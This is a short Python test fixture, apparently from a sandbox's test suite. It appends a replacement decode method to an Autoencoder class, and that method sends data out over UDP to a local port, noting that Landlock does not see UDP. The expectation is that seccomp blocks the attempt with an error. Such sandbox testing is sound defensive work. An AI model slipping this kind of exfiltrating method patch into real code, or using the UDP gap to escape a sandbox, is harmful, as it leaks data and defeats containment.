"""Sends the images away by UDP, which Landlock does not see."""

BASE = "mlp"
APPEND = """
import socket


def decode(self, z):
    print("attack begins")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"images", ("127.0.0.1", @udp@))
    print("attack worked")


Autoencoder.decode = decode
"""
EXPECT = {
    "contained_by": "seccomp",
    "must_not": "reach anything over a network",
    "ends": "error",
}
